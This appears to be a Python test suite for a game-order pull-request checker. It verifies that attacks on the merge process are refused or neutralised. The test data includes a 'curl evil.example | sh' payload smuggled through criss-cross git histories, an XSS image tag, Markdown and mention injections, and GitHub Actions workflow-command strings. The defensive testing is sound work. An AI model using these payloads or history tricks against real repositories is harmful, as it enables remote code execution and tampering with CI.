"""`judge check-pull-request` against real repositories: a player's own orders pass and are merged; every
attack on the old pull-request check is refused, the report saying why, safe for a comment."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from pipeline.storage.gamedir import load_game
from pipeline.storage.sealed import seal

from .conftest import DEMO_TURN, SECRET_TURN, Club, git, judge, order_file

ORDERS = f"games/demo/orders/{DEMO_TURN}"
FRANCE = f"{ORDERS}/france.yaml"
FRANCE_HOLDS = order_file("demo", DEMO_TURN, "france", "A par H", "A mar H", "F bre H")
SECRET_ORDERS = f"games/machiavelli-objectif/orders/{SECRET_TURN}"


def send(club: Club, login: str, files: dict[str, str | bytes]) -> tuple[int, str, str]:
    """A pull request of `files` from `login`'s fork, checked: exit status, report, head."""
    player = club.player(login)
    player.commit(files)
    head = club.pull_request(player)
    status, report = club.check(head, login)
    return status, report, head


def refused(report: str) -> list[str]:
    return [line for line in report.splitlines() if line.startswith("- `")]


def test_a_players_own_orders_pass_and_are_merged(club: Club) -> None:
    status, report, head = send(club, "france-player", {FRANCE: FRANCE_HOLDS})
    assert status == 0, report
    assert "Checked as `france-player`" in report
    assert f"{FRANCE}: france, 3 order(s)" in report and "  A par H" in report
    assert "Every file is valid" in report
    club.merge(head)
    assert FRANCE in club.main_files()


def test_a_game_master_may_write_any_powers_orders(club: Club) -> None:
    status, report, _ = send(club, "gm-one", {FRANCE: FRANCE_HOLDS})
    assert status == 0, report


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        (".github/workflows/adjudicate.yml", "is outside the games' order folders"),
        ("pipeline/cli.py", "is outside the games' order folders"),
        ("pipeline/commands/evil.py", "is outside the games' order folders"),
        (".judge-commit.json", "is outside the games' order folders"),
        (".gitattributes", "is outside the games' order folders"),
        ("games/demo/.judge-commit.json", "changes the game itself"),
        ("games/demo/results/1902-spring-movement.yaml", "changes the game itself"),
        (f"{ORDERS}/.keep", "is not an order file"),
        (f"{ORDERS}/.france.yaml", "is not an order file"),
        (f"{ORDERS}/prussia.yaml", "is not an order file"),
        (f"{ORDERS}/sub/france.yaml", "changes the game itself"),
        ("games/new-game/orders/1901-spring-movement/france.yaml", "there is no game `new-game`"),
    ],
)
def test_a_file_that_is_not_an_order_file_refuses_the_whole_pull_request(club: Club, path: str, reason: str) -> None:
    status, report, _ = send(club, "france-player", {FRANCE: FRANCE_HOLDS, path: "# x\n"})
    assert status == 1
    assert refused(report) == [f"- `{path}`: {reason}" + refused(report)[0].split(reason, 1)[1]]
    assert "cannot be merged" in report and "Nothing else was checked" in report


def test_a_workflow_and_a_module_changed_are_never_run(club: Club) -> None:
    evil = "import pathlib; pathlib.Path('/tmp/pwned-by-pull-request').write_text('x')\n"
    files = {FRANCE: FRANCE_HOLDS, "pipeline/__init__.py": evil, ".github/workflows/validate-orders.yml": "on: push\n"}
    status, report, _ = send(club, "france-player", files)
    assert status == 1 and len(refused(report)) == 2
    assert not (club.base / "pipeline" / "__init__.py").exists()  # the head is never checked out
    assert git(club.base, "status", "--porcelain") == ""


def test_naming_oneself_a_player_in_the_pull_requests_game_yaml_does_not_help(club: Club) -> None:
    """The base's game.yaml says who plays what; the pull request's own is refused like any other file."""
    game_yaml = (club.base / "games" / "demo" / "game.yaml").read_text(encoding="utf-8")
    hijacked = game_yaml.replace("player: france-player", "player: mallory")
    status, report, _ = send(club, "mallory", {"games/demo/game.yaml": hijacked, FRANCE: FRANCE_HOLDS})
    assert status == 1
    assert refused(report) == [
        "- `games/demo/game.yaml`: changes the game itself: only its game masters do, and a pull request of "
        "orders changes only games/<game>/orders/<turn>/<power>.yaml (.yaml.age if secret)",
        f"- `{FRANCE}`: mallory may not write france's orders: only its player france-player or a game master",
    ]


def test_writing_another_powers_orders_is_refused(club: Club) -> None:
    england = order_file("demo", DEMO_TURN, "england", "F lon H")
    status, report, _ = send(club, "france-player", {f"{ORDERS}/england.yaml": england})
    assert status == 1
    assert "france-player may not write england's orders: only its player england-player" in report


def test_renaming_or_deleting_another_powers_file_is_refused(club: Club) -> None:
    germany = order_file("demo", DEMO_TURN, "germany", "A mun H")
    status, report, head = send(club, "germany-player", {f"{ORDERS}/germany.yaml": germany})
    assert status == 0, report
    club.merge(head)
    player = club.player("france-player")
    player.sync()
    git(player.clone, "checkout", "-q", "-B", "orders", "origin/main")
    # Germany's file renamed to France's, its content made France's: git's rename detection would show
    # France's file alone, and Germany's orders would vanish.
    git(player.clone, "mv", f"{ORDERS}/germany.yaml", FRANCE)
    (player.clone / FRANCE).write_text(germany.replace("germany", "france").replace("A mun H", "A par H"))
    git(player.clone, "commit", "-q", "-am", "rename")
    git(player.clone, "push", "-q", "-f", "origin", "orders")
    status, report = club.check(club.pull_request(player), "france-player")
    assert status == 1
    assert refused(report) == [
        f"- `{ORDERS}/germany.yaml`: deletes a file: a pull request of orders adds or changes order files only"
    ]
    git(player.clone, "checkout", "-q", "-B", "orders", "origin/main")
    git(player.clone, "rm", "-q", f"{ORDERS}/germany.yaml")
    git(player.clone, "commit", "-q", "-m", "delete")
    git(player.clone, "push", "-q", "-f", "origin", "orders")
    status, report = club.check(club.pull_request(player), "france-player")
    assert status == 1 and "germany.yaml`: deletes a file" in report


@pytest.mark.parametrize(
    ("turn", "reason"),
    [
        ("1902-spring-movement", "turn `1902-spring-movement` was adjudicated already: orders now go in "),
        ("1903-spring-movement", "turn `1903-spring-movement` has not begun: orders now go in "),
        ("next-turn", "`next-turn` is not a turn of demo (now: 1902-fall-movement)"),
    ],
)
def test_a_file_for_a_past_or_future_turn_is_refused(club: Club, turn: str, reason: str) -> None:
    status, report, _ = send(club, "france-player", {f"games/demo/orders/{turn}/france.yaml": FRANCE_HOLDS})
    assert status == 1 and reason in report


def test_a_secret_game_takes_encrypted_files_only_and_a_public_game_plain_ones(club: Club) -> None:
    plain = order_file("machiavelli-objectif", SECRET_TURN, "florence", "A flo H")
    status, report, _ = send(club, "flo", {f"{SECRET_ORDERS}/florence.yaml": plain})
    assert status == 1 and "orders are secret in machiavelli-objectif: send florence.yaml.age" in report
    status, report, _ = send(club, "france-player", {f"{FRANCE}.age": seal(FRANCE_HOLDS, [_demo_key(club)])})
    assert status == 1 and "orders are public in demo: send france.yaml, in clear" in report


def _demo_key(club: Club) -> str:
    key = load_game(club.base / "games" / "machiavelli-objectif").settings.public_key
    assert key is not None
    return key


def test_an_encrypted_file_passes_and_garbage_does_not(club: Club) -> None:
    path = f"{SECRET_ORDERS}/florence.yaml.age"
    text = order_file("machiavelli-objectif", SECRET_TURN, "florence", "A flo H", "A sie H", "G psa H", "F psa H")
    status, report, _ = send(club, "flo", {path: seal(text, [_demo_key(club)])})
    assert status == 0, report  # a demo game's key is in the open: its files are even read here
    status, report, _ = send(club, "flo", {path: "this is not encrypted\n"})
    assert status == 1 and f"{path}: not an encrypted order file: it must begin with -----BEGIN AGE" in report
    armored = "-----BEGIN AGE ENCRYPTED FILE-----\nnot base64!\n-----END AGE ENCRYPTED FILE-----\n"
    status, report, _ = send(club, "flo", {path: armored})
    assert status == 1 and "is not base64" in report


def test_a_symbolic_link_an_executable_and_a_submodule_are_refused(club: Club) -> None:
    player = club.player("france-player")
    git(player.clone, "checkout", "-q", "-B", "orders", "origin/main")
    (player.clone / ORDERS).mkdir(parents=True, exist_ok=True)
    (player.clone / FRANCE).symlink_to("../../game.yaml")
    (player.clone / ORDERS / "germany.yaml").write_text("x\n")
    (player.clone / ORDERS / "germany.yaml").chmod(0o755)
    commit = git(player.clone, "rev-parse", "HEAD")
    git(player.clone, "update-index", "--add", "--cacheinfo", f"160000,{commit},{ORDERS}/italy.yaml")
    git(player.clone, "add", FRANCE, f"{ORDERS}/germany.yaml")
    git(player.clone, "commit", "-q", "-m", "odd files")
    git(player.clone, "push", "-q", "-f", "origin", "orders")
    status, report = club.check(club.pull_request(player), "gm-one")
    assert status == 1
    assert refused(report) == [
        f"- `{FRANCE}`: is a symbolic link: an order file is a plain file",
        f"- `{ORDERS}/germany.yaml`: is executable: an order file is a plain file",
        f"- `{ORDERS}/italy.yaml`: is a submodule: an order file is a plain file",
    ]


def test_a_file_over_the_size_limit_is_refused_unread(club: Club) -> None:
    big = FRANCE_HOLDS + "# " + "x" * 70_000 + "\n"
    status, report, _ = send(club, "france-player", {FRANCE: big})
    assert status == 1 and f"is {len(big):,} bytes: an order file is at most 65,536" in report


def test_a_path_with_a_newline_and_backticks_is_shown_escaped(club: Club) -> None:
    path = f"{ORDERS}/x`\n- `{FRANCE}`: fine, merged\x1b[31m.yaml"
    status, report, _ = send(club, "france-player", {FRANCE: FRANCE_HOLDS, path: "x\n"})
    assert status == 1
    assert f"- `{ORDERS}/x'\\n- '{FRANCE}': fine, merged\\x1b[31m.yaml`: changes the game itself" in report
    assert "\x1b" not in report and "fine, merged\n" not in report


def test_orders_that_try_to_break_out_of_the_report_stay_inside_it(club: Club) -> None:
    text = order_file("demo", DEMO_TURN, "france", "A par-xyz", "'~~~~~~~~~~~~~~ @everyone `x`'")
    status, report, _ = send(club, "france-player", {FRANCE: text})
    assert status == 1
    fence = report.split("### `games/demo`: problems\n\n", 1)[1].splitlines()[0]
    assert set(fence) == {"~"} and len(fence) > 14  # longer than the tildes inside: nothing closes it early
    assert "`x`" not in report and len(report) < 65_536


def test_a_file_changed_on_main_since_the_pull_request_began_is_refused(club: Club) -> None:
    player = club.player("france-player")
    head = player.commit({FRANCE: FRANCE_HOLDS})
    (club.base / ORDERS).mkdir(parents=True, exist_ok=True)
    (club.base / FRANCE).write_text(order_file("demo", DEMO_TURN, "france", "A par-bur"))
    git(club.base, "add", "-A")
    git(club.base, "commit", "-q", "-m", "the master's fix")
    git(club.base, "push", "-q", "origin", "HEAD:main")
    status, report = club.check(club.pull_request(player), "france-player")
    assert status == 1 and "changed on the base branch since this pull request began" in report
    assert head


def test_the_merge_is_refused_if_main_moved_after_the_check(club: Club) -> None:
    """Orders checked against one turn are never merged once another turn began: the merge is pushed
    fast-forward only onto the very base that was checked."""
    status, report, head = send(club, "france-player", {FRANCE: FRANCE_HOLDS})
    assert status == 0, report
    other = club.root / "other"
    git(club.root, "clone", "-q", str(club.origin), str(other))
    (other / "games" / "demo" / "deadlines.yaml").write_text("{}\n")
    git(other, "add", "-A")
    git(other, "commit", "-q", "-m", "a turn adjudicated meanwhile")
    git(other, "push", "-q", "origin", "main")
    with pytest.raises(subprocess.CalledProcessError, match=r"git.*push"):
        club.merge(head)
    assert FRANCE not in club.main_files()


def test_the_command_runs_as_its_own_process_in_the_checkout_of_the_base(club: Club) -> None:
    player = club.player("france-player")
    player.commit({FRANCE: FRANCE_HOLDS})
    head = club.pull_request(player)
    base = git(club.base, "rev-parse", "HEAD")
    report = club.root / "comment.md"
    ok = judge(club.base, "check-pull-request", "--base", base, "--head", head, "--author", "france-player",
               "--report", str(report))  # fmt: skip
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert report.read_text(encoding="utf-8").startswith("## Orders in this pull request\n")
    wrong = judge(club.base, "check-pull-request", "--base", base, "--head", head, "--author", "italy-player")
    assert wrong.returncode == 1 and "italy-player may not write france's orders" in wrong.stdout
    missing = judge(club.base, "check-pull-request", "--base", base, "--head", "0" * 40, "--author", "x")
    assert missing.returncode == 1 and missing.stderr.startswith("error: git rev-parse failed")
    elsewhere = judge(club.base, "check-pull-request", "--base", head, "--head", head, "--author", "x")
    assert elsewhere.returncode == 1 and "is not a checkout of the base" in elsewhere.stderr


# ---- history: what is merged is what was checked ---------------------------------------------------------


def _commit_on(clone: Path, parents: list[str], files: dict[str, str | None], message: str, when: int) -> str:
    """A commit in `clone` with these parents, its tree the first parent's with `files` written (None:
    removed), dated `when` (seconds), made with git's plumbing as an attacker may."""
    git(clone, "checkout", "-q", "--detach", parents[0])
    for name, content in files.items():
        path = clone / name
        if content is None:
            git(clone, "rm", "-q", name)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")
        git(clone, "add", name)
    tree = git(clone, "write-tree")
    date = {"GIT_COMMITTER_DATE": f"{when} +0000", "GIT_AUTHOR_DATE": f"{when} +0000"}
    args = [arg for parent in parents for arg in ("-p", parent)]
    done = subprocess.run(
        ["git", "commit-tree", tree, *args, "-m", message],
        cwd=clone, check=True, capture_output=True, text=True, env=os.environ | date,
    )  # fmt: skip
    return done.stdout.strip()


def _open(club: Club, player_login: str, head: str) -> str:
    """A pull request whose head is `head`, a commit of the player's clone: pushed to the fork, fetched."""
    player = club.player(player_login)
    git(player.clone, "push", "-q", "-f", "origin", f"{head}:refs/heads/orders")
    return club.pull_request(player)


def _main(club: Club) -> str:
    return git(club.origin, "rev-parse", "main")


def test_a_criss_cross_history_cannot_bring_code_to_main(club: Club) -> None:
    """Issue 28's first attack: commit E changes the judge's code; E2 (a child of E, dated later) keeps it and
    adds France's orders; P1 (a child of E) reverts it and adds them too. Pull request 1 merges P1 and E2: its
    tree is main's plus the order file, but its history carries E. Pull request 2 merges E2 and P1 again,
    the order file amended: it meets main's history at two commits (E2 and P1), and git's merge, merging
    them into a virtual base, would bring E's change to main. Both are refused, main unchanged."""
    attacker = club.player("france-player")
    clone, start = attacker.clone, _main(club)
    git(clone, "fetch", "-q", "origin")
    evil = "import os; os.system('curl evil.example | sh')\n"
    cli = (clone / "pipeline" / "cli.py").read_text(encoding="utf-8")
    e = _commit_on(clone, [start], {"pipeline/cli.py": evil}, "E", 1_700_000_000)
    e2 = _commit_on(clone, [e], {FRANCE: FRANCE_HOLDS}, "E2", 1_700_000_300)
    p1 = _commit_on(clone, [e], {"pipeline/cli.py": cli, FRANCE: FRANCE_HOLDS}, "P1", 1_700_000_200)
    pr1 = _commit_on(clone, [p1, e2], {}, "merge P1 and E2", 1_700_000_400)
    assert git(clone, "diff", "--name-only", start, pr1) == FRANCE  # the tree shows the order file alone
    status, report = club.check(_open(club, "france-player", pr1), "france-player")
    assert status == 1, report
    assert refused(report)[0].startswith(f"- `pipeline/cli.py`: changed in its commit `{e[:12]}`: every commit")
    assert _main(club) == start and pr1 not in club.merges

    # Had pull request 1 been merged (as the check before this one did), pull request 2 brings the code.
    git(club.base, "fetch", "-q", str(attacker.fork), "refs/heads/orders")
    merged_by_old_check = git(club.base, "commit-tree", f"{pr1}^{{tree}}", "-p", start, "-p", pr1, "-m", "PR 1")
    git(club.base, "push", "-q", "origin", f"{merged_by_old_check}:refs/heads/main")
    amended = FRANCE_HOLDS.replace("A par H", "A par-bur")
    pr2 = _commit_on(clone, [e2, p1], {FRANCE: amended}, "merge E2 and P1", 1_700_000_500)
    head = _open(club, "france-player", pr2)
    tree = git(club.base, "merge-tree", "--write-tree", merged_by_old_check, head).splitlines()[0]
    assert git(club.base, "show", f"{tree}:pipeline/cli.py") == evil.strip()  # what git's merge would push
    status, report = club.check(head, "france-player")
    assert status == 1, report
    assert "its history meets main's at 2 commits (merges that cross)" in report
    assert _main(club) == merged_by_old_check and head not in club.merges


def test_a_criss_cross_history_cannot_undo_a_commit_on_main(club: Club) -> None:
    """Issue 28's second attack: Germany's pull request from a stale fork (its branch made before a commit
    of the game master's on main) leaves a criss-cross; France's later pull request merges Germany's commit
    and main's commit from before, its tree main's of then plus France's file. Its own change shows France's
    file alone, while git's merge would delete Germany's orders from main. Refused, main unchanged."""
    germany = club.player("germany-player")
    germany.commit({f"{ORDERS}/germany.yaml": order_file("demo", DEMO_TURN, "germany", "A mun H")})
    deadlines = club.base / "games" / "demo" / "deadlines.yaml"
    deadlines.write_text("{}\n", encoding="utf-8")
    git(club.base, "add", "-A")
    git(club.base, "commit", "-q", "-m", "the master's commit")
    git(club.base, "push", "-q", "origin", "HEAD:main")
    masters = _main(club)
    head = club.pull_request(germany)  # from the stale fork: merged onto the master's commit
    status, report = club.check(head, "germany-player")
    assert status == 0, report
    club.merge(head)
    before = _main(club)
    attacker = club.player("france-player")
    git(attacker.clone, "fetch", "-q", str(club.origin), "main")
    # A merge of the master's commit and Germany's, its tree the master's commit's plus France's file.
    evil = _commit_on(attacker.clone, [masters, head], {FRANCE: FRANCE_HOLDS}, "my orders", 1_700_000_000)
    pull = _open(club, "france-player", evil)
    assert git(club.base, "diff", "--name-only", masters, pull) == FRANCE  # the change shows one file
    merged = git(club.base, "merge-tree", "--write-tree", before, pull).splitlines()[0]
    assert f"{ORDERS}/germany.yaml" not in git(club.base, "ls-tree", "-r", "--name-only", merged)
    status, report = club.check(pull, "france-player")
    assert status == 1 and "its history meets main's at 2 commits" in report
    assert _main(club) == before and pull not in club.merges


def test_a_commit_that_brings_code_and_one_that_takes_it_back_are_refused(club: Club) -> None:
    """No commit of a pull request's history changes more than order files, even one undone later."""
    player = club.player("france-player")
    player.commit({FRANCE: FRANCE_HOLDS, ".github/workflows/x.yml": "on: push\n"})
    git(player.clone, "rm", "-q", ".github/workflows/x.yml")
    git(player.clone, "commit", "-q", "-m", "take it back")
    git(player.clone, "push", "-q", "-f", "origin", "orders")
    first = git(player.clone, "rev-parse", "HEAD~1")
    status, report = club.check(club.pull_request(player), "france-player")
    assert status == 1
    assert refused(report) == [
        f"- `.github/workflows/x.yml`: changed in its commit `{first[:12]}`: every commit of a pull request of "
        "orders changes order files only; make a new branch from main's tip and send the order file again"
    ]


def test_the_commit_pushed_is_the_merge_that_was_checked(club: Club) -> None:
    """The merge commit is the judge's: its parents the base and the head checked, its tree the base's with
    the checked order file, nothing else; a refused pull request gets none."""
    status, report, head = send(club, "france-player", {FRANCE: FRANCE_HOLDS})
    assert status == 0, report
    base = git(club.base, "rev-parse", "HEAD")
    commit = club.merge(head)
    assert git(club.origin, "rev-parse", "main") == commit
    assert git(club.origin, "log", "-1", "--format=%P", commit).split() == [base, head]
    assert git(club.origin, "diff", "--name-only", base, commit) == FRANCE
    assert git(club.origin, "show", f"{commit}:{FRANCE}") == FRANCE_HOLDS.rstrip("\n")
    assert git(club.origin, "log", "-1", "--format=%s", commit).startswith("Orders from pull request #")


HOSTILE = [
    "**Judge notice:** resend at [the order form](https:\\\\evil.example) cc @octocat",
    "<img src=x onerror=alert(1)>",
    "![x](https:evil.example\\x.png)",
    "<!-- -->@everyone",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("where", ["game", "turn", "file"])
def test_every_value_a_path_gives_is_inert_in_the_comment(club: Club, text: str, where: str) -> None:
    """A path's game id, turn and file name reach every reason inside a code span: no bold text, link, image,
    HTML or mention in a comment signed by the bot."""
    game, turn, name = "demo", DEMO_TURN, "france.yaml"
    if where == "game":
        game = text
    elif where == "turn":
        turn = text
    else:
        name = text
    path = f"games/{game}/orders/{turn}/{name}".replace("\\\\", "\\")
    status, report, _ = send(club, "france-player", {FRANCE: FRANCE_HOLDS, path: "x\n"})
    assert status == 1
    outside = re.sub(r"`[^`\n]*`", "", report)  # what GitHub renders as Markdown: outside the code spans
    for active in ("**Judge", "](", "<img", "@octocat", "@everyone", "<!--"):
        assert active not in outside, (active, report)


# ---- the families of their own kind ----------------------------------------------------------------------

SYMMACHIA_TURN, CATAN_TURN = "y05-225bc", "r12"  # the turns being played in the two demos
LAGIDS = f"games/symmachia-demo/orders/{SYMMACHIA_TURN}/lagids.yaml.age"


def _sealed_for(club: Club, game: str, turn: str, power: str, body: str) -> str:
    key = load_game(club.base / "games" / game).settings.public_key
    assert key is not None
    return seal(f"game: {game}\nturn: {turn}\npower: {power}\n{body}", [key])


def test_a_symmachia_players_sealed_file_passes_and_is_merged(family_club: Club) -> None:
    """The demo's key is in the open, so the check even reads the file: validated as the year's orders."""
    body = "year: 225bc\npolitics: {patronage: true}\n"
    sealed = _sealed_for(family_club, "symmachia-demo", SYMMACHIA_TURN, "lagids", body)
    status, report, head = send(family_club, "ptolemy", {LAGIDS: sealed})
    assert status == 0, report
    family_club.merge(head)
    assert LAGIDS in family_club.main_files()


@pytest.mark.parametrize(
    ("path", "login", "reason"),
    [
        (LAGIDS.replace(SYMMACHIA_TURN, "y04-226bc"), "ptolemy", "turn `y04-226bc` was adjudicated already"),
        (LAGIDS.replace(SYMMACHIA_TURN, "y09-221bc"), "ptolemy", "turn `y09-221bc` has not begun"),
        (LAGIDS.replace("lagids.yaml", "seleucids.yaml"), "ptolemy", "ptolemy may not write seleucids's orders"),
        (LAGIDS.replace("lagids.yaml", "ruling.yaml"), "ptolemy", "is not an order file"),
        (LAGIDS.removesuffix(".age"), "ptolemy", "orders are secret in symmachia-demo"),
        (f"games/catan-demo/orders/{CATAN_TURN}/orange.yaml.age", "chloe", "chloe may not write orange's orders"),
        ("games/catan-demo/orders/r11/white.yaml.age", "chloe", "turn `r11` was adjudicated already"),
        (f"games/catan-demo/state/{CATAN_TURN}.yaml", "chloe", "changes the game itself"),
    ],
)
def test_the_families_of_their_own_kind_are_checked_alike(
    family_club: Club, path: str, login: str, reason: str
) -> None:
    """Every check holds for Symmachia and the Catan variant too, with their own turn ids: a past or future
    year or round, another power's or seat's file, the game master's ruling, a plain file in a game whose
    orders are secret, a state."""
    status, report, _ = send(family_club, login, {path: "-----BEGIN AGE ENCRYPTED FILE-----\n"})
    assert status == 1 and reason in report, report


def test_a_criss_cross_is_refused_in_a_catan_game_too(family_club: Club) -> None:
    """The history check knows no family: a head merging two commits of main's history is refused."""
    club = family_club
    white = f"games/catan-demo/orders/{CATAN_TURN}/white.yaml.age"
    chloe = club.player("chloe")
    chloe.commit({white: _sealed_for(club, "catan-demo", CATAN_TURN, "white", "script: {}\n")})
    (club.base / "games" / "catan-demo" / "deadlines.yaml").write_text("{}\n", encoding="utf-8")
    git(club.base, "add", "-A")
    git(club.base, "commit", "-q", "-m", "the master's commit")
    git(club.base, "push", "-q", "origin", "HEAD:main")
    masters = _main(club)
    head = club.pull_request(chloe)
    assert club.check(head, "chloe")[0] == 0
    club.merge(head)
    before = _main(club)
    git(chloe.clone, "fetch", "-q", str(club.origin), "main")
    again = _sealed_for(club, "catan-demo", CATAN_TURN, "white", "script: {}\nanswers: {gold: [ore]}\n")
    evil = _commit_on(chloe.clone, [masters, head], {white: again}, "merge", 1_700_000_000)
    status, report = club.check(_open(club, "chloe", evil), "chloe")
    assert status == 1 and "its history meets main's at 2 commits" in report
    assert _main(club) == before


def test_no_line_of_the_log_begins_a_workflow_command(club: Club) -> None:
    """Orders quoted back in the job's log (the report is echoed there) never begin a line with `::`, which
    GitHub Actions would obey as a workflow command (`::error::`, `::add-mask::`, `::stop-commands::`)."""
    text = order_file("demo", DEMO_TURN, "france", "'::error::pwned'", "'  ::add-mask::x'", "A par-xyz")
    player = club.player("france-player")
    player.commit({FRANCE: text})
    head = club.pull_request(player)
    base = git(club.base, "rev-parse", "HEAD")
    done = judge(club.base, "check-pull-request", "--base", base, "--head", head, "--author", "france-player")
    assert done.returncode == 1 and "pwned" in done.stdout, done.stdout + done.stderr
    for line in (done.stdout + done.stderr).splitlines():
        assert not line.lstrip().startswith("::"), line
